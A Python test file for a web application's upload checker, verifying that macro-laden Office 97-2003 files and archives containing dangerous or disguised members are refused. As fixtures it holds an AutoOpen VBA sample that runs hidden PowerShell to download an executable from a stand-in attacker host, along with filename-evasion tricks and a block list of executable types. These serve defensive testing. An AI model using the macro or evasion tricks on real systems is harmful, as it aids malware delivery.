"""Uploads: macros in Office 97-2003 files, and dangerous members of archives.

Issue 11: a .doc, .xls or .ppt was checked by its 8-byte signature only, so one with a VBA
project (an AutoOpen macro) was accepted, and so was a zip holding a macro-enabled .docm,
"run.hta." (Windows drops the trailing dot), a .chm or a .url. The OLE2 files here are written by
tests/ole_builder.py; the upload helpers are those of test_safe_content.
"""

import io
import struct
import zipfile

import olefile
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from wagtail.documents import get_document_model

from core import uploads

from .ole_builder import build_ole
from .test_safe_content import (EXE, HTML, MACROS, PDF, PROGRAM, PROGRAM_EMBEDDED,
                                PROGRAM_INSIDE, assert_one_document_uploaded, by_name,
                                office_zip, plain_zip, refused_with, upload_document, vi)

# The messages added for this issue and the Vietnamese that locale/vi must give for them.
DAMAGED = ("The file “%(name)s” is damaged: it starts like an Office 97-2003 file but cannot be "
           "read as one, so it cannot be checked.")
MACROS_INSIDE = ("The file “%(name)s” holds an Office file with macros or of a macro-enabled type "
                 "(“%(member)s”), which cannot be uploaded.")
UNCHECKED_INSIDE = ("The file “%(name)s” holds an Office 97-2003 file (“%(member)s”) that is "
                    "damaged or too large to be checked.")
NEW_MESSAGES = {
    DAMAGED: "Tệp “%(name)s” bị hỏng: phần đầu giống tệp Office 97-2003 nhưng không đọc được "
             "như tệp Office, nên không thể kiểm tra.",
    MACROS_INSIDE: "Tệp “%(name)s” chứa tệp Office có macro hoặc thuộc loại chạy được macro "
                   "(“%(member)s”), không được phép tải lên.",
    UNCHECKED_INSIDE: "Tệp “%(name)s” chứa tệp Office 97-2003 (“%(member)s”) bị hỏng hoặc quá "
                      "lớn nên không thể kiểm tra.",
}


def vi_new(msgid, **params):
    return NEW_MESSAGES[msgid] % params


# Office 97-2003 files ------------------------------------------------------------------------

AUTO_OPEN = (b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n'
             b'    Shell "powershell -w hidden -c iwr http://evil.example/x.exe"\r\nEnd Sub\r\n')


def vba_project(root):
    """The streams of a VBA project ([MS-OVBA] 2.2) under the storage `root` ("" for the root
    of the file, as in an OOXML vbaProject.bin)."""
    prefix = f"{root}/" if root else ""
    return {f"{prefix}PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'
                                b"Document=ThisDocument/&H00000000\r\n",
            f"{prefix}PROJECTwm": "ThisDocument\0".encode("utf-16-le"),
            f"{prefix}VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
            f"{prefix}VBA/dir": b"\x01\x00\x00\x00" + b"ThisDocument",
            f"{prefix}VBA/ThisDocument": AUTO_OPEN}


def biff(*records):
    """Excel BIFF8 records (type, data) as a Workbook stream: a globals substream."""
    bof = struct.pack("<HHHHII", 0x0600, 0x0005, 0x2775, 0x07CD, 0, 0x0206)
    out = [(0x0809, bof), *records, (0x000A, b"")]
    return b"".join(struct.pack("<HH", kind, len(data)) + data for kind, data in out)


def sheet(name, kind):
    """A BoundSheet8 record: kind 0 is a worksheet, 1 an Excel 4 macro sheet."""
    return 0x0085, struct.pack("<IBBBB", 0, 0, kind, len(name), 0) + name.encode()


def ppt_stream(has_macros=None):
    """A PowerPoint Document stream, with a VBAInfoContainer ([MS-PPT] 2.4.8) when
    `has_macros` is given."""
    stream = b"\x0f\x00\xe8\x03\x00\x00\x00\x00"  # an empty DocumentContainer
    if has_macros is not None:
        stream += (struct.pack("<HHI", 0x001F, 0x03FF, 0x14)
                   + struct.pack("<HHIIII", 0x0002, 0x0400, 0x0C, 1, has_macros, 2))
    return stream


WORD_STREAMS = {"WordDocument": b"\xec\xa5\xc1\x00" + b"\x00" * 60, "1Table": b"\x00" * 16,
                "\x05SummaryInformation": b"\xfe\xff\x00\x00"}
CLEAN_DOC = build_ole(WORD_STREAMS)
MACRO_DOC = build_ole({**WORD_STREAMS, **vba_project("Macros")})
CLEAN_XLS = build_ole({"Workbook": biff(sheet("Trang1", 0))})
MACRO_XLS = build_ole({"Workbook": biff(sheet("Trang1", 0)),
                       **vba_project("_VBA_PROJECT_CUR")})
XLM_XLS = build_ole({"Workbook": biff(sheet("Trang1", 0), sheet("Macro1", 1))})
PPT_STREAMS = {"Current User": b"\x00\x00\xf6\x0f" + b"\x00" * 20}
CLEAN_PPT = build_ole({**PPT_STREAMS, "PowerPoint Document": ppt_stream()})
EMPTY_VBA_PPT = build_ole({**PPT_STREAMS, "PowerPoint Document": ppt_stream(has_macros=0)})
MACRO_PPT = build_ole({**PPT_STREAMS, "PowerPoint Document": ppt_stream(has_macros=1)})
VBA_BIN = build_ole(vba_project(""))  # what an OOXML document keeps in vbaProject.bin
GARBAGE_OLE = uploads.OLE2 + bytes(range(256)) * 16


def huge_fat_claim(data):
    """`data` with a header announcing 16 million FAT sectors (which olefile would set out to
    read and hold)."""
    return data[:44] + struct.pack("<I", 0xFFFFFF) + data[48:]


def unlinked(data, name):
    """`data` with the directory entry `name` cut out of the storage tree (every sibling or
    child pointer to it set to none): olefile no longer lists it, but the entry is still there."""
    data = bytearray(data)
    directory = (struct.unpack_from("<I", data, 48)[0] + 1) * 512
    entries = range(directory, len(data) - 512, 128)  # the builder puts the FAT last
    sid = next(n for n, at in enumerate(entries)
               if data[at:at + 64].startswith(name.encode("utf-16-le") + b"\x00\x00"))
    for at in entries:
        for pointer in (at + 68, at + 72, at + 76):  # left, right, child
            if struct.unpack_from("<I", data, pointer)[0] == sid:
                struct.pack_into("<I", data, pointer, 0xFFFFFFFF)
    return bytes(data)


def stream_size_claim(data, name, size):
    """`data` with the size of stream `name` in its directory entry set to `size`."""
    data = bytearray(data)
    at = data.index(name.encode("utf-16-le") + b"\x00\x00")
    struct.pack_into("<Q", data, at + 120, size)
    return bytes(data)


HIDDEN_MACRO_DOC = unlinked(MACRO_DOC, "Macros")


def test_the_builder_writes_files_that_olefile_reads_strictly():
    with olefile.OleFileIO(io.BytesIO(MACRO_DOC), raise_defects=olefile.DEFECT_INCORRECT) as ole:
        assert ole.listdir(streams=False, storages=True) == [["Macros"], ["Macros", "VBA"]]
        assert ["Macros", "VBA", "dir"] in ole.listdir()
        assert ole.openstream("Macros/VBA/ThisDocument").read().startswith(AUTO_OPEN)
        assert ole.openstream("WordDocument").read(2) == b"\xec\xa5"
    with olefile.OleFileIO(io.BytesIO(MACRO_XLS), raise_defects=olefile.DEFECT_INCORRECT) as ole:
        assert ole.exists("_VBA_PROJECT_CUR/VBA/_VBA_PROJECT")
        assert ole.get_type("_VBA_PROJECT_CUR") == olefile.STGTY_STORAGE
    with olefile.OleFileIO(io.BytesIO(CLEAN_DOC), raise_defects=olefile.DEFECT_INCORRECT) as ole:
        assert ole.listdir(streams=False, storages=True) == []
    with pytest.raises(OSError):
        olefile.OleFileIO(io.BytesIO(GARBAGE_OLE))
    with olefile.OleFileIO(io.BytesIO(HIDDEN_MACRO_DOC)) as ole:
        assert ole.listdir(streams=False, storages=True) == []
        assert ole.exists("WordDocument") and not ole.exists("Macros")


# Through the admin's upload views ------------------------------------------------------------

def docx_with(members):
    return plain_zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>",
                      **members})


REFUSED = [
    # Office 97-2003 files with macros, or claiming the format without being readable
    ("cong-van-macro.doc", MACRO_DOC, vi(MACROS, name="cong-van-macro.doc")),
    ("bang-tinh-macro.xls", MACRO_XLS, vi(MACROS, name="bang-tinh-macro.xls")),
    ("so-lieu-xlm.xls", XLM_XLS, vi(MACROS, name="so-lieu-xlm.xls")),
    ("trinh-chieu-macro.ppt", MACRO_PPT, vi(MACROS, name="trinh-chieu-macro.ppt")),
    ("doi-ten.xls", MACRO_DOC, vi(MACROS, name="doi-ten.xls")),
    ("hong.doc", GARBAGE_OLE, vi_new(DAMAGED, name="hong.doc")),
    ("hong-fat.xls", huge_fat_claim(CLEAN_XLS), vi_new(DAMAGED, name="hong-fat.xls")),
    # OOXML: a real VBA project, an Excel 4 macro sheet, an embedded workbook with macros
    ("that-macro.docx", docx_with({"word/vbaProject.bin": VBA_BIN}),
     vi(MACROS, name="that-macro.docx")),
    ("so-lieu-xlm.xlsx", office_zip("xl/", ["xl/macrosheets/sheet1.xml"]),
     vi(MACROS, name="so-lieu-xlm.xlsx")),
    ("nhung-macro.docx", docx_with({"word/embeddings/oleObject1.bin": MACRO_XLS}),
     vi_new(MACROS_INSIDE, name="nhung-macro.docx", member="word/embeddings/oleObject1.bin")),
    # archives: macro-enabled and dangerous types, Windows name tricks, macros inside
    ("ho-so.zip", plain_zip({"van-ban.docm": docx_with({})}),
     vi_new(MACROS_INSIDE, name="ho-so.zip", member="van-ban.docm")),
    ("mau.zip", plain_zip({"mau/Normal.dot": CLEAN_DOC}),
     vi_new(MACROS_INSIDE, name="mau.zip", member="mau/Normal.dot")),
    ("chay.zip", plain_zip({"run.hta.": HTML}), vi(PROGRAM_INSIDE, name="chay.zip",
                                                   member="run.hta.")),
    ("tro-giup.zip", plain_zip({"huong-dan.chm": b"ITSF\x03\x00\x00\x00"}),
     vi(PROGRAM_INSIDE, name="tro-giup.zip", member="huong-dan.chm")),
    ("lien-ket.zip", plain_zip({"a.url": b"[InternetShortcut]\r\nURL=file://evil/x.exe\r\n"}),
     vi(PROGRAM_INSIDE, name="lien-ket.zip", member="a.url")),
    ("loi-tat.zip", plain_zip({"evil.lnk ": b"L\x00\x00\x00\x01\x14\x02\x00"}),
     vi(PROGRAM_INSIDE, name="loi-tat.zip", member="evil.lnk ")),
    ("luong.zip", plain_zip({"anh.jpg::$DATA": b"x", "x.HtA::$DATA": HTML}),
     vi(PROGRAM_INSIDE, name="luong.zip", member="x.HtA::$DATA")),
    ("dia.zip", plain_zip({"ban-sao.iso": b"\x00" * 64}),
     vi(PROGRAM_INSIDE, name="dia.zip", member="ban-sao.iso")),
    ("macro-trong.zip", plain_zip({"cong-van.doc": MACRO_DOC}),
     vi_new(MACROS_INSIDE, name="macro-trong.zip", member="cong-van.doc")),
    ("bang-trong.zip", plain_zip({"so-lieu/bang.xls": MACRO_XLS}),
     vi_new(MACROS_INSIDE, name="bang-trong.zip", member="so-lieu/bang.xls")),
    ("docx-trong.zip", plain_zip({"bao-cao.docx": office_zip("word/", ["word/vbaProject.bin"])}),
     vi_new(MACROS_INSIDE, name="docx-trong.zip", member="bao-cao.docx")),
    ("xlsx-trong.zip", plain_zip({"bang.xlsx": office_zip("xl/", ["xl/macrosheets/s1.xml"])}),
     vi_new(MACROS_INSIDE, name="xlsx-trong.zip", member="bang.xlsx")),
    ("long-nhau.zip", plain_zip({"ho-so/ban-sao.zip": plain_zip({"cong-van.doc": MACRO_DOC})}),
     vi_new(MACROS_INSIDE, name="long-nhau.zip", member="cong-van.doc")),
    ("hong-trong.zip", plain_zip({"hong.doc": GARBAGE_OLE}),
     vi_new(UNCHECKED_INSIDE, name="hong-trong.zip", member="hong.doc")),
    ("nhung-exe.zip", plain_zip({"cu.doc": uploads.OLE2 + b"\x00" * 600 + EXE}),
     vi(PROGRAM_INSIDE, name="nhung-exe.zip", member="cu.doc")),
    # the uploaded file's own name
    ("chay.hta.", HTML, vi(PROGRAM, name="chay.hta.")),
    ("bao-cao.docm ", docx_with({}), vi(MACROS, name="bao-cao.docm ")),
    ("a.pdf:x.exe", PDF, vi(PROGRAM, name="a.pdf:x.exe")),
]


@pytest.mark.parametrize("multiple", [False, True], ids=["single", "multiple"])
@pytest.mark.parametrize("name, content, message", REFUSED, ids=by_name)
def test_macros_and_dangerous_members_are_refused(admin_client, name, content, message,
                                                  multiple):
    response = upload_document(admin_client, name, content, multiple)
    refused_with(response, message, multiple)
    assert not get_document_model().objects.exists()


ACCEPTED = [
    ("cong-van.doc", CLEAN_DOC),
    ("bang-tinh.xls", CLEAN_XLS),
    ("trinh-chieu.ppt", CLEAN_PPT),
    ("trinh-chieu-cu.ppt", EMPTY_VBA_PPT),  # VBA info saying the project is empty
    ("nhung-bang.docx", docx_with({"word/embeddings/oleObject1.bin": CLEAN_XLS})),
    ("ho-so.zip", plain_zip({
        "cong-van.doc": CLEAN_DOC, "so-lieu/bang.xls": CLEAN_XLS, "bao-cao.docx": docx_with({}),
        "bang.xlsx": office_zip("xl/"), "ke.hoach.v2.pdf": PDF, "ghi chu.txt": b"Xin chao",
        "Scripts/readme.txt": b"not an OpenDocument", "ban-sao/ho-so.zip": plain_zip({
            "cu.doc": CLEAN_DOC, "moi.docx": docx_with({})})})),
]


@pytest.mark.parametrize("multiple", [False, True], ids=["single", "multiple"])
@pytest.mark.parametrize("name, content", ACCEPTED, ids=by_name)
def test_clean_office_files_and_archives_are_accepted(admin_client, name, content, multiple):
    assert_one_document_uploaded(upload_document(admin_client, name, content, multiple), multiple)


# The checker itself ----------------------------------------------------------------------------

def refusal(name, content):
    """The ValidationError check_document raises for the file, in Vietnamese (or None)."""
    with translation.override("vi"):
        try:
            uploads.check_document(SimpleUploadedFile(name, content))
        except ValidationError as error:
            return error
    return None


@pytest.mark.parametrize("name, content, code, message", [
    ("cong-van.doc", MACRO_DOC, "macros", vi(MACROS, name="cong-van.doc")),
    ("bang.xls", MACRO_XLS, "macros", vi(MACROS, name="bang.xls")),
    ("xlm.xls", XLM_XLS, "macros", vi(MACROS, name="xlm.xls")),
    ("chieu.ppt", MACRO_PPT, "macros", vi(MACROS, name="chieu.ppt")),
    ("hong.doc", GARBAGE_OLE, "damaged", vi_new(DAMAGED, name="hong.doc")),
    ("hong.ppt", uploads.OLE2 + b"\x00" * 504, "damaged", vi_new(DAMAGED, name="hong.ppt")),
    ("hong-fat.doc", huge_fat_claim(CLEAN_DOC), "damaged",
     vi_new(DAMAGED, name="hong-fat.doc")),
    ("hong-luong.xls", stream_size_claim(CLEAN_XLS, "Workbook", 0xFFFFFFF0), "damaged",
     vi_new(DAMAGED, name="hong-luong.xls")),
    ("an-macro.doc", HIDDEN_MACRO_DOC, "macros", vi(MACROS, name="an-macro.doc")),
    ("nhung.doc", uploads.OLE2 + b"\x00" * 500 + EXE, "program_inside",
     vi(PROGRAM_EMBEDDED, name="nhung.doc")),
    ("run.hta.", HTML, "program", vi(PROGRAM, name="run.hta.")),
    ("RUN.HTA. . ", HTML, "program", vi(PROGRAM, name="RUN.HTA. . ")),
    ("x.lnk::$DATA", b"L\x00\x00\x00", "program", vi(PROGRAM, name="x.lnk::$DATA")),
    ("van-ban.DOCM.", docx_with({}), "macros", vi(MACROS, name="van-ban.DOCM.")),
    ("a.zip", plain_zip({"van-ban.xlsm": b"x"}), "macros_inside",
     vi_new(MACROS_INSIDE, name="a.zip", member="van-ban.xlsm")),
    ("b.zip", plain_zip({"c.doc": MACRO_DOC}), "macros_inside",
     vi_new(MACROS_INSIDE, name="b.zip", member="c.doc")),
    ("c.zip", plain_zip({"d.docx": docx_with({"word/vbaProject.bin": VBA_BIN})}),
     "macros_inside", vi_new(MACROS_INSIDE, name="c.zip", member="d.docx")),
    ("d.zip", plain_zip({"e.doc": GARBAGE_OLE}), "unchecked_inside",
     vi_new(UNCHECKED_INSIDE, name="d.zip", member="e.doc")),
    ("e.zip", plain_zip({"tai-ve.URL. ": b"[InternetShortcut]"}), "program_inside",
     vi(PROGRAM_INSIDE, name="e.zip", member="tai-ve.URL. ")),
], ids=by_name)
def test_the_checker_refuses(name, content, code, message):
    error = refusal(name, content)
    assert error is not None, f"{name} was accepted"
    assert (error.code, error.message) == (code, message)


@pytest.mark.parametrize("extension", [
    "chm", "url", "scf", "iso", "img", "lnk", "hta", "vhd", "vhdx", "msc", "cpl", "jse", "vbe",
    "wsf", "wsh", "ps1", "psm1", "reg", "inf", "application", "appref-ms", "settingcontent-ms",
    "library-ms", "searchConnector-ms", "xll", "gadget", "msi", "msp", "jar", "exe", "js", "vbs",
])
def test_every_dangerous_type_in_an_archive_is_refused(extension):
    error = refusal("goi.zip", plain_zip({f"thu-muc/tep.{extension}": b"x"}))
    assert error is not None and error.code == "program_inside", extension


@pytest.mark.parametrize("extension", [
    "docm", "dotm", "xlsm", "xltm", "xlam", "pptm", "potm", "ppsm", "sldm", "dot", "xlt", "xla",
    "pot", "ppa",
])
def test_every_macro_enabled_type_in_an_archive_is_refused(extension):
    error = refusal("goi.zip", plain_zip({f"tep.{extension.upper()}.": b"x"}))
    assert error is not None and error.code == "macros_inside", extension


def zip_with_unicode_path(stored_name, extracted_name, content):
    """A zip whose member is named `stored_name` in its headers, with an Info-ZIP Unicode Path
    field (0x7075) naming `extracted_name`: unzip and 7-Zip extract it under the second."""
    import zlib

    encoded = extracted_name.encode()
    field = struct.pack("<BI", 1, zlib.crc32(stored_name.encode())) + encoded
    info = zipfile.ZipInfo(stored_name)
    info.extra = struct.pack("<HH", 0x7075, len(field)) + field
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(info, content)
    return buffer.getvalue()


@pytest.mark.parametrize("extracted", ["huong-dan.hta", "huong-dan.docm", "lien-ket.url."])
def test_a_dangerous_name_in_a_unicode_path_field_is_refused(extracted):
    archive = zip_with_unicode_path("huong-dan.txt", extracted, b"<script>calc</script>")
    with zipfile.ZipFile(io.BytesIO(archive)) as check:  # what Python's zipfile sees
        assert check.namelist() == ["huong-dan.txt"]
    error = refusal("tai-lieu-huong-dan.zip", archive)
    assert error is not None and error.code in ("program_inside", "macros_inside"), extracted


def test_a_name_only_the_local_header_gives_is_refused():
    """The central directory says "chay.txt"; the local header, which some tools extract by,
    says "chay.vbs"."""
    archive = plain_zip({"chay.txt": b"WScript.Echo 1"})
    local_name = archive.index(b"chay.txt")  # the local header comes first
    archive = archive[:local_name] + b"chay.vbs" + archive[local_name + 8:]
    with zipfile.ZipFile(io.BytesIO(archive)) as check:
        assert check.namelist() == ["chay.txt"]
    error = refusal("goi.zip", archive)
    assert error is not None and error.code == "program_inside"


def test_an_archive_that_unpacks_past_the_bound_is_refused(monkeypatch):
    """What lies past the bound of unpacked bytes cannot be checked: a macro document behind
    padding must not slip through, so the archive is refused."""
    archive = plain_zip({"dem.txt": b"\0" * 4096, "cong-van.doc": CLEAN_DOC})
    monkeypatch.setattr(uploads, "MAX_UNPACKED_BYTES", 4096)
    error = refusal("lon.zip", archive)
    assert error is not None and error.code == "too_large_unpacked"
    assert "cong-van.doc" in error.message
    monkeypatch.setattr(uploads, "MAX_UNPACKED_BYTES", 4096 + len(CLEAN_DOC) + 1)
    assert refusal("vua.zip", archive) is None


def test_a_clean_unicode_path_name_and_a_slide_show_pass():
    archive = zip_with_unicode_path("bao-cao.txt", "báo-cáo.txt", "Báo cáo".encode())
    assert refusal("bao-cao.zip", archive) is None
    assert refusal("trinh-chieu.zip", plain_zip({"trinh-chieu.pps": CLEAN_PPT})) is None


def test_an_office_file_in_an_archive_is_parsed_up_to_its_bound(monkeypatch):
    """An Office 97-2003 member is read whole for olefile, so only up to OLE_MEMBER_MAX; a
    larger one cannot be checked and is refused."""
    archive = plain_zip({"cong-van.doc": CLEAN_DOC})
    monkeypatch.setattr(uploads, "OLE_MEMBER_MAX", len(CLEAN_DOC))
    assert refusal("vua.zip", archive) is None
    monkeypatch.setattr(uploads, "OLE_MEMBER_MAX", len(CLEAN_DOC) - 1)
    error = refusal("lon.zip", archive)
    assert error is not None and error.code == "unchecked_inside"
    assert error.message == vi_new(UNCHECKED_INSIDE, name="lon.zip", member="cong-van.doc")


@pytest.mark.parametrize("name, content", ACCEPTED + [
    ("ghi-chu.txt", "Họp lúc 8 giờ".encode()),
    ("tep-nen.zip", plain_zip({"bao-cao.pdf": PDF, "anh.jpg": b"\xff\xd8\xff"})),
], ids=by_name)
def test_the_checker_accepts_clean_files(name, content):
    assert refusal(name, content) is None


def test_the_upload_is_left_at_its_start():
    upload = SimpleUploadedFile("cong-van.doc", CLEAN_DOC)
    uploads.check_document(upload)
    assert upload.tell() == 0 and upload.read() == CLEAN_DOC
